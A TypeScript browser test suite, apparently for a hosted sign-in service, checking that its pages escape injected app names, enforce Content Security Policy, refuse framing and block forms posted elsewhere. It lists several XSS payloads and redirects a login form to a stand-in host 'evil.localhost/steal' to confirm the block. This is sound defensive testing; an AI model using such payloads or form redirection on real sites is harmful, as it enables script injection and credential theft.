import { describe, expect, it } from "vitest";
import { sampled } from "../support/long-run.ts";
import { goodPassword, initiate, newEmail } from "../support/person.ts";
import { missingProtections } from "./support/protections.ts";
import { changeApp } from "./support/records.ts";
import { describeInBrowser } from "./support/stage.ts";
import { createApp, fillAccount, heading, inPage, link, openSignIn, newSignIn } from "./support/steps.ts";

const attacks = [
  `<img src=x onerror="document.title='owned'">`,
  `"><script>document.title='owned'</script>`,
  `' onfocus='document.title="owned"' autofocus='`,
  `{{constructor.constructor('document.title="owned"')()}}`,
  `</title><svg onload="document.title='owned'">`,
];

describeInBrowser("hosted pages and what others put into them", (stage) => {
  it("carry every protection, which all tests in a browser look for on every page that they meet", async () => {
    const { page, session } = await newSignIn(stage);
    const headers = (await page.reload())?.headers() ?? {};
    expect(missingProtections(headers)).toEqual([]);
    expect(missingProtections({ ...headers, "x-frame-options": "SAMEORIGIN" })).toEqual(["x-frame-options"]);
    const loose = (headers["content-security-policy"] ?? "").replace(
      "script-src 'self'",
      "script-src 'self' 'unsafe-inline'",
    );
    expect(missingProtections({ ...headers, "content-security-policy": loose })).toHaveLength(2);
    expect(headers["content-security-policy"]).toContain(`form-action 'self' ${stage.site.origin};`);
    // A page that has no form for the app does not let any form out.
    const unknown = await page.goto(`${session.authUrl}x`);
    expect(unknown?.headers()["content-security-policy"]).toContain("form-action 'self';");
  });

  it.each(sampled(attacks, 4))("show the name of an app as text: %s", async (attack) => {
    const app = await createApp(stage, { name: attack });
    await changeApp(stage.service, app, { branding: { companyName: attack, primaryColor: "red;}*{display:none" } });
    const page = await stage.newPage();
    const session = await openSignIn(stage, page, app);
    for (const path of ["", "/create-account", "/forgot-password"]) {
      await page.goto(session.authUrl + path);
      expect(await page.getByRole("main").innerText()).toContain(attack);
      expect(await page.title()).not.toBe("owned");
      expect(await page.locator("img, main script, [onfocus]").count()).toBe(0);
    }
  });

  it("run no script and load no picture of anybody else, even when one finds its way into the page", async () => {
    const { page } = await newSignIn(stage);
    // Every one of these is refused, and reported; a request that goes out all the same fails the
    // test.
    stage.expectComplaint(/Content Security Policy|TrustedHTML|TrustedScript/u);
    const refused = await inPage<string[]>(
      page,
      `async (site) => {
        const refused = new Set();
        addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.add(effectiveDirective));
        const add = (name, attributes) => document.body.appendChild(Object.assign(document.createElement(name), attributes));
        const attempts = {
          handler: () => add("p", {}).setAttribute("onclick", "document.title = 'owned'"),
          script: () => add("script", { src: site + "/script" }),
          markup: () => (add("p", {}).innerHTML = "<b>owned</b>"),
        };
        for (const [name, attempt] of Object.entries(attempts)) {
          try { attempt(); } catch { refused.add(name); }
        }
        add("img", { src: site + "/picture" });
        add("link", { rel: "stylesheet", href: site + "/style" });
        add("iframe", { src: site + "/frame" });
        add("base", { href: site });
        add("p", {}).setAttribute("style", "color: red");
        await fetch(site).catch(() => {});
        for (let waited = 0; refused.size < 9 && waited < 20_000; waited += 50)
          await new Promise((resolve) => setTimeout(resolve, 50));
        return [...refused];
      }`,
      stage.site.origin,
    );
    const blocked = ["img-src", "style-src-elem", "style-src-attr", "frame-src", "base-uri", "connect-src"];
    expect(refused).toEqual(expect.arrayContaining([...blocked, "handler", "script", "markup"]));
    expect(await page.title()).not.toBe("owned");
  });

  it("send their forms nowhere but to themselves and the app", async () => {
    const { page, session } = await newSignIn(stage);
    stage.expectComplaint(/form-action/u);
    const foreign = `http://evil.localhost:${stage.site.port}/steal`;
    await page.evaluate(`document.querySelector("form:not([data-passkey])").action = ${JSON.stringify(foreign)}`);
    await fillAccount(page, { email: newEmail(), password: goodPassword });
    const complaint = page.waitForEvent("console", (message) => message.text().includes("form-action"));
    await page.evaluate(`document.querySelector("form:not([data-passkey])").submit()`);
    await complaint;
    expect(page.url()).toBe(session.authUrl);
  });

  it("show the logo of an app from where the app keeps it", async () => {
    const app = await createApp(stage, { name: "Acme" });
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40"/></svg>`;
    await changeApp(stage.service, app, { branding: { logo: stage.site.show("/logo.svg", svg, "image/svg+xml") } });
    const page = await stage.newPage();
    await openSignIn(stage, page, app);
    const logo = page.getByRole("img", { name: "Acme" });
    expect(await logo.evaluate("(image) => image.naturalWidth")).not.toBe(0);
    expect((await logo.boundingBox())?.height).toBeLessThanOrEqual(48);
    // In the tab, too.
    expect(await page.locator("link[rel=icon]").getAttribute("href")).toBe(await logo.getAttribute("src"));
  });

  it("show the app's initial and name where its logo fails to load", async () => {
    const app = await createApp(stage, { name: "Acme" });
    const notAPicture = stage.site.show("/broken.svg", "not a picture", "image/svg+xml");
    await changeApp(stage.service, app, { branding: { logo: notAPicture } });
    const page = await stage.newPage();
    await openSignIn(stage, page, app);
    await page.locator("[data-no-logo]").waitFor();
    expect(await page.locator(".brand img").count()).toBe(0);
  });

  describe("on another site's page", () => {
    it("do not show in a frame", async () => {
      const app = await createApp(stage);
      const session = await initiate(stage.service, app);
      const page = await stage.newPage();
      stage.expectComplaint(/frame-ancestors|X-Frame-Options/u);
      for (const path of ["", "/create-account", "/cancel"]) {
        const refused = page.waitForEvent("console", (message) => /frame-ancestors|X-Frame/u.test(message.text()));
        const framed = path === "/cancel" ? `${stage.service.url}/sign-in/unknown` : session.authUrl + path;
        await page.goto(stage.site.show(`/frame${path}`, `<iframe src="${framed}"></iframe>`));
        await refused;
        expect(page.frames()[1]?.url()).not.toContain("/sign-in/");
      }
    });

    it("leave no hold on their window to the page that opened it", async () => {
      const app = await createApp(stage);
      const session = await initiate(stage.service, app);
      const page = await stage.newPage();
      await page.goto(
        stage.site.show("/opener", `<a href="${session.authUrl}" target="_blank" rel="opener">Sign in</a>`),
      );
      const [popup] = await Promise.all([page.context().waitForEvent("page"), link(page, "Sign in").click()]);
      await heading(popup).waitFor();
      expect(await popup.evaluate("opener")).toBeNull();
    });
  });
});
